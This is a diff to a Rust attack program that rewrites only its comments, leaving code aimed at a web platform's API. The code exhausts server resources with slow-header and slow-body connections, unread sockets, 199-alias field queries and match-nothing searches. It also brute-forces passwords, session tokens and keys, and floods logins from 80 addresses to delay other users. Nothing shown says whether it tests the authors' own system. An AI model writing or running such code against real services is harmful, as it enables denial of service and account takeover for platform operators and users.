@@ -1,4 +1,4 @@
-//! His ways. Each connection has one and repeats it; what is refused to him he asks again.
+//! The kinds of attack. Each connection has one and repeats it; a refused request is sent again.
 
 use std::sync::Arc;
 use std::time::Duration;
@@ -11,16 +11,16 @@ use tokio::time::sleep;
 use super::forms::Forms;
 use super::{Him, client, sockets};
 
-/// His connections.
+/// The number of the attacker's connections.
 const CONNECTIONS: usize = 64;
-/// He is patient with responses, for they cost the platform memory.
+/// The attacker waits long for responses, because they cost the platform memory.
 const PATIENCE: Duration = Duration::from_secs(60);
-/// The addresses from which he guesses at once.
+/// The number of addresses from which the attacker guesses at the same time.
 const ADDRESSES: u8 = 80;
-/// A pause after a refusal at once, so that it is the platform that works and not this program.
+/// A pause after an immediate refusal, so that the platform works and not this program.
 const PAUSE: Duration = Duration::from_millis(5);
 
-/// All of them, until the process ends.
+/// Runs all attacks until the process ends.
 pub async fn attack(him: Him) {
     let him = Arc::new(him);
     let mut ways = JoinSet::new();
@@ -60,7 +60,7 @@ async fn way(him: &Him, connection: usize) {
         10 => sockets::slow_heads(him.server).await,
         11 => sockets::slow_bodies(him.server, &him.key).await,
         13 => api.log_in(&him.password).await,
-        // From all addresses once: the others read nothing.
+        // From all addresses, by one connection only: the others read nothing.
         14 if connection == 14 => api.guess_from_everywhere().await,
         _ => sockets::unread(him.server, &him.key).await,
     }
@@ -84,7 +84,7 @@ impl Api<'_> {
         }
     }
 
-    /// Passwords, session tokens and keys.
+    /// Guesses passwords, session tokens and keys.
     async fn guess(&self) {
         for number in 0_u64.. {
             let system = format!("{}/api/v4/system", self.base);
@@ -99,15 +99,15 @@ impl Api<'_> {
         }
     }
 
-    /// His own logins, each of which is an occurrence for his webhooks.
+    /// Logs the attacker in; each login is an occurrence for the attacker's webhooks.
     async fn log_in(&self, password: &str) {
         loop {
             send(login(&self.client, &self.base, "vera", password)).await;
         }
     }
 
-    /// Passwords of names that nobody has, from many addresses at a time: what waits to be checked
-    /// keeps everybody else's from it.
+    /// Sends passwords of names that nobody has, from many addresses at a time: the waiting checks
+    /// delay those of everybody else.
     async fn guess_from_everywhere(&self) {
         let mut addresses = JoinSet::new();
         for address in 1..=ADDRESSES {
@@ -123,14 +123,14 @@ impl Api<'_> {
     }
 }
 
-/// A login with a password.
+/// Logs in with a password.
 pub(super) fn login(client: &Client, base: &str, user: &str, password: &str) -> RequestBuilder {
     let body = json!({"login": user, "password": password});
     let tokens = format!("{base}/api/sys/tokens");
     client.post(tokens).body(body.to_string())
 }
 
-/// Sends a request and reads what comes, piece by piece.
+/// Sends a request and reads the response, piece by piece.
 pub(super) async fn send(request: RequestBuilder) {
     if let Ok(mut answer) = request.timeout(PATIENCE).send().await {
         let refused = !answer.status().is_success();
@@ -142,13 +142,13 @@ pub(super) async fn send(request: RequestBuilder) {
     sleep(PAUSE).await;
 }
 
-/// One column under 199 names.
+/// Returns one column under 199 names.
 fn aliases(column: &str) -> String {
     let names: Vec<String> = (0..199).map(|n| format!("{column}%20as%20a{n}")).collect();
     format!("fields={}", names.join(","))
 }
 
-/// Searches that find nothing, so that all is read.
+/// Returns searches that find nothing, so that all rows are read.
 fn contains(terms: usize) -> String {
     let terms: Vec<String> = (0..terms)
         .map(|n| format!("message%20ct%20'ipsum%20x{n}'"))
